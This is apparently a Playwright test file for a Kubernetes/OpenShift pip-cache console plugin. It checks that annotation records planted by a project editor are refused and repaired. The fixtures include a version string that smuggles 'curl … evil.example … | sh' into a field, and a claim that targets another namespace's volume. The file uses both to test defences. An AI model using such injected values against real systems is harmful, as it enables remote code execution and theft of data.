import {
  appBuildConfig,
  cacheObjects,
  expect,
  runningPod,
  test,
  type ClusterControl,
} from './fixtures';
import { templateObjects } from './template-objects';

// Records an editor of the project planted in the plugin's annotations: the page refuses them
// or repairs from the cluster as it is, and acts only inside the cache (issue 22).

const PLANTED_VERSION = '6.19.1" && curl -s http://evil.example/x | sh && echo "';

const one = async (cluster: ClusterControl, kind: string, name: string) =>
  (await cluster.objects(kind, 'demo')).find((o) => o.metadata.name === name);

/** A persistent cache whose image exists, so the in-memory controllers scale its pods. */
const persistentCache = (annotations: Record<string, string>) =>
  cacheObjects('pipcache', { persistent: true }).map((o) => {
    if (o.kind === 'ImageStream')
      return {
        ...o,
        status: {
          tags: [{ tag: 'latest', items: [{ dockerImageReference: 'x', image: 'sha256:1' }] }],
        },
      };
    if (o.kind === 'Deployment')
      return {
        ...o,
        metadata: { ...o.metadata, annotations: { ...o.metadata.annotations, ...annotations } },
      };
    return o;
  });

test.describe('records planted in annotations', () => {
  test('an emptying record naming a claim in another project, bound to its volume: shown as damaged, and emptying makes only the cache’s own claim', async ({
    page,
    cluster,
  }) => {
    const planted = {
      replicas: 1,
      claimUid: 'not-the-claim',
      claim: {
        apiVersion: 'v1',
        kind: 'PersistentVolumeClaim',
        metadata: { name: 'stolen', namespace: 'victim' },
        spec: {
          accessModes: ['ReadWriteOnce'],
          resources: { requests: { storage: '1Gi' } },
          volumeName: 'pv-of-victim',
        },
      },
    };
    await cluster.seed([
      ...persistentCache({ 'pipcache-plugin/emptying': JSON.stringify(planted) }),
      runningPod('pipcache'),
    ]);
    const before = await one(cluster, 'PersistentVolumeClaim', 'pipcache-data');

    await page.goto('/pipcache/ns/demo/pipcache');
    await page.getByTestId('pipcache-disk-empty').click();
    const modal = page.getByTestId('pipcache-empty-modal');
    const damaged = modal.getByTestId('pipcache-empty-damaged');
    await expect(damaged).toContainText(
      'The record of an earlier emptying of this cache is damaged',
    );
    await expect(damaged).toContainText('claim.spec.volumeName is not a field of this record');
    // Not offered as a job to finish: the user confirms a fresh emptying.
    await expect(modal.getByTestId('pipcache-empty-pending')).toHaveCount(0);
    await expect(modal.getByTestId('pipcache-empty-run')).toBeDisabled();
    await modal.getByTestId('pipcache-empty-accept').check();
    await modal.getByTestId('pipcache-empty-run').click();
    await expect(modal.getByTestId('pipcache-empty-done')).toBeVisible({ timeout: 30_000 });

    const claims = await cluster.objects('PersistentVolumeClaim');
    expect(claims.map((c) => `${c.metadata.namespace}/${c.metadata.name}`)).toEqual([
      'demo/pipcache-data',
    ]);
    const [claim] = claims;
    expect(claim.metadata.uid).not.toBe(before.metadata.uid);
    expect(claim.spec.volumeName).not.toBe('pv-of-victim');
    expect(claim.metadata.labels['app.kubernetes.io/instance']).toBe('pipcache');
    const deployment = await one(cluster, 'Deployment', 'pipcache');
    expect(deployment.spec.replicas).toBe(1);
    expect(deployment.metadata.annotations['pipcache-plugin/emptying']).toBeUndefined();
  });

  test('a damaged emptying record with the claim already gone: the cache’s values give the claim back', async ({
    page,
    cluster,
  }) => {
    const objects = persistentCache({ 'pipcache-plugin/emptying': '{"replicas":"all"' })
      .filter((o) => o.kind !== 'PersistentVolumeClaim')
      .map((o) => (o.kind === 'Deployment' ? { ...o, spec: { ...o.spec, replicas: 0 } } : o));
    await cluster.seed(objects);
    await page.goto('/pipcache/ns/demo/pipcache');
    await page.getByTestId('pipcache-disk-empty').click();
    const modal = page.getByTestId('pipcache-empty-modal');
    await expect(modal.getByTestId('pipcache-empty-damaged')).toContainText(
      'The record is not valid JSON',
    );
    await modal.getByTestId('pipcache-empty-accept').check();
    await modal.getByTestId('pipcache-empty-run').click();
    await expect(modal.getByTestId('pipcache-empty-done')).toBeVisible({ timeout: 30_000 });
    const claims = await cluster.objects('PersistentVolumeClaim');
    expect(claims.map((c) => `${c.metadata.namespace}/${c.metadata.name}`)).toEqual([
      'demo/pipcache-data',
    ]);
    expect(claims[0].spec.resources.requests.storage).toBe('1Gi');
    const deployment = await one(cluster, 'Deployment', 'pipcache');
    expect(deployment.spec.replicas).toBe(1);
    expect(deployment.metadata.annotations['pipcache-plugin/emptying']).toBeUndefined();
  });

  test('a migration record whose devpi version carries a shell command: refused, nothing built, and discarded on request', async ({
    page,
    cluster,
  }) => {
    const [dc, ...rest] = templateObjects();
    const values = {
      schema: 1,
      name: 'oldcache',
      image: {
        source: 'build',
        pythonTag: '3.12-ubi9',
        devpiVersion: PLANTED_VERSION,
        strategy: 'docker',
      },
    };
    const record = { values: JSON.stringify(values), claim: 'keep', uids: {} };
    await cluster.seed([
      {
        ...dc,
        metadata: {
          ...dc!.metadata,
          annotations: { 'pipcache-plugin/migration': JSON.stringify(record) },
        },
      },
      ...rest,
    ]);

    await page.goto('/pipcache/ns/demo/~new?migrate=oldcache');
    const damaged = page.getByTestId('pipcache-migration-damaged');
    await expect(damaged).toContainText(
      'The record of an earlier migration of oldcache is damaged',
    );
    await expect(damaged).toContainText(
      'values.image.devpiVersion holds a value that is not allowed',
    );
    // The planted text is named by its field only, never shown or used.
    await expect(page.getByText('evil.example')).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Finish the migration' })).toHaveCount(0);
    const builds = await cluster.objects('BuildConfig');
    expect(JSON.stringify(builds)).not.toContain('evil.example');

    await page.getByTestId('pipcache-migration-discard').click();
    await expect(page.getByTestId('pipcache-name')).toHaveValue('oldcache');
    await expect(page.getByTestId('pipcache-migration-plan')).toContainText(
      'Replacing oldcache, made by the original templates',
    );
    const after = await one(cluster, 'DeploymentConfig', 'oldcache');
    expect(after.metadata.annotations?.['pipcache-plugin/migration']).toBeUndefined();
    expect(JSON.stringify(await cluster.objects())).not.toContain('evil.example');
  });

  test('a sound migration record is shown before it runs, and a Docker build the user may not run is refused', async ({
    page,
    cluster,
  }) => {
    const [dc, ...rest] = templateObjects();
    const values = {
      schema: 1,
      name: 'oldcache',
      storage: {
        kind: 'persistent',
        size: '2Gi',
        storageClass: '',
        dataPath: '/opt/app-root/data',
      },
      image: {
        source: 'build',
        pythonTag: '3.12-ubi9',
        devpiVersion: '6.19.1',
        strategy: 'docker',
      },
    };
    const record = { values: JSON.stringify(values), claim: 'keep', uids: {} };
    await cluster.seed([
      {
        ...dc,
        metadata: {
          ...dc!.metadata,
          annotations: { 'pipcache-plugin/migration': JSON.stringify(record) },
        },
      },
      ...rest,
    ]);
    await cluster.faults({ dockerBuilds: false });

    await page.goto('/pipcache/ns/demo/~new?migrate=oldcache');
    await expect(page.getByTestId('pipcache-migration-plan')).toContainText(
      'The migration of oldcache stopped half way',
    );
    const shown = page.getByTestId('pipcache-resume-values');
    await expect(shown.getByTestId('pipcache-resume-name')).toHaveText('oldcache');
    await expect(shown.getByTestId('pipcache-resume-image')).toContainText(
      'devpi-server 6.19.1 built with the Docker strategy',
    );
    await expect(page.getByTestId('pipcache-resume-strategy')).toContainText(
      'You may not run Docker builds in project demo',
    );
    await expect(page.getByTestId('pipcache-create-submit')).toHaveAttribute(
      'aria-disabled',
      'true',
    );
    await page.getByTestId('pipcache-create-submit').click({ force: true });
    expect(await one(cluster, 'BuildConfig', 'oldcache')).toMatchObject({
      metadata: { labels: { template: 'pipcache-persistent' } },
    });
    expect(await one(cluster, 'Deployment', 'oldcache')).toBeUndefined();
  });

  for (const [what, entries] of [
    ['[null]', [null]],
    [
      'a variable PipCache does not manage, read from a Secret',
      [
        {
          index: 0,
          entry: {
            name: 'AWS_SECRET_ACCESS_KEY',
            valueFrom: { secretKeyRef: { name: 'cloud', key: 'key' } },
          },
        },
      ],
    ],
  ] as const) {
    test(`a previous-env record of ${what}: Stop using explains, removes the managed variables and writes back nothing else`, async ({
      page,
      cluster,
    }) => {
      const internal = 'http://pipcache.demo.svc/root/pypi/+simple/';
      const bc = appBuildConfig('shop', {
        env: [
          { name: 'PIP_INDEX_URL', value: internal },
          { name: 'APP_MODULE', value: 'app:main' },
          { name: 'PIP_TRUSTED_HOST', value: 'pipcache.demo.svc' },
        ],
      });
      await cluster.seed([
        ...cacheObjects('pipcache'),
        {
          ...bc,
          metadata: {
            ...bc.metadata,
            annotations: {
              'pipcache-plugin/uses': 'demo/pipcache',
              'pipcache-plugin/previous-env': JSON.stringify({ envAbsent: false, entries }),
            },
          },
        },
      ]);
      // The BuildConfig's PipCache tab, which every console from 4.19 renders (the Actions
      // menu's items only from 4.21).
      await page.goto('/k8s/ns/demo/buildconfigs/shop');
      await page.getByRole('tab', { name: 'PipCache' }).click();
      await page.getByTestId('pipcache-bc-stop').click();
      const stop = page.getByTestId('pipcache-stop-modal');
      await expect(stop.getByTestId('pipcache-stop-damaged')).toContainText(
        'The record of the pip settings shop had before is damaged',
      );
      await expect(stop.getByTestId('pipcache-env-APP_MODULE')).toBeVisible();
      await stop.getByTestId('pipcache-stop-apply').click();
      await expect(stop).toHaveCount(0);
      const after = await one(cluster, 'BuildConfig', 'shop');
      expect(after.spec.strategy.sourceStrategy.env).toEqual([
        { name: 'APP_MODULE', value: 'app:main' },
      ]);
      expect(after.metadata.annotations?.['pipcache-plugin/uses']).toBeUndefined();
      expect(after.metadata.annotations?.['pipcache-plugin/previous-env']).toBeUndefined();
    });
  }
  test('a damaged values record: the details page names what was wrong, and saving Edit settings writes a fresh one', async ({
    page,
    cluster,
  }) => {
    const objects = persistentCache({}).map((o) => {
      if (o.kind !== 'Deployment') return o;
      const recorded = JSON.parse(o.metadata.annotations['pipcache-plugin/values']);
      const planted = {
        ...recorded,
        image: { ...recorded.image, devpiVersion: PLANTED_VERSION, command: 'sh' },
        devpi: { ...recorded.devpi, upstreamPassword: 'hunter2' },
      };
      return {
        ...o,
        metadata: {
          ...o.metadata,
          annotations: {
            ...o.metadata.annotations,
            'pipcache-plugin/values': JSON.stringify(planted),
          },
        },
      };
    });
    await cluster.seed(objects);
    const errors: string[] = [];
    page.on('pageerror', (error) => errors.push(error.message));

    await page.goto('/pipcache/ns/demo/pipcache');
    const damaged = page.getByTestId('pipcache-settings-damaged');
    await expect(damaged).toContainText("The record of this cache's settings is damaged");
    await expect(damaged).toContainText('image.devpiVersion holds a value that is not allowed');
    await expect(damaged).toContainText('image.command is not a field of this record');
    await expect(damaged).toContainText('devpi.upstreamPassword is too large');
    await expect(damaged).toContainText('open Edit settings, check the values and save');
    // The planted text is named by its field only, never shown.
    await expect(page.getByText('evil.example')).toHaveCount(0);
    await expect(page.getByText('hunter2')).toHaveCount(0);
    // The settings are read from the running objects all the same.
    await expect(page.getByTestId('pipcache-setting-memory')).toContainText('request');

    await page.getByTestId('pipcache-edit').click();
    const modal = page.getByTestId('pipcache-edit-modal');
    await expect(modal.getByTestId('pipcache-edit-damaged')).toContainText(
      'image.command is not a field of this record',
    );
    // Saved even unchanged: the record is replaced by one rebuilt from the form.
    await modal.getByTestId('pipcache-edit-save').click();
    await expect(modal).toHaveCount(0);
    await expect(damaged).toHaveCount(0);

    const deployment = await one(cluster, 'Deployment', 'pipcache');
    const text = deployment.metadata.annotations['pipcache-plugin/values'];
    expect(text).not.toContain('evil.example');
    expect(text).not.toContain('hunter2');
    const fresh = JSON.parse(text);
    expect(fresh.image.command).toBeUndefined();
    expect(fresh.storage.kind).toBe('persistent');
    expect(fresh.devpi.upstreamPassword).toBe('');
    expect(errors).toEqual([]);
  });
});
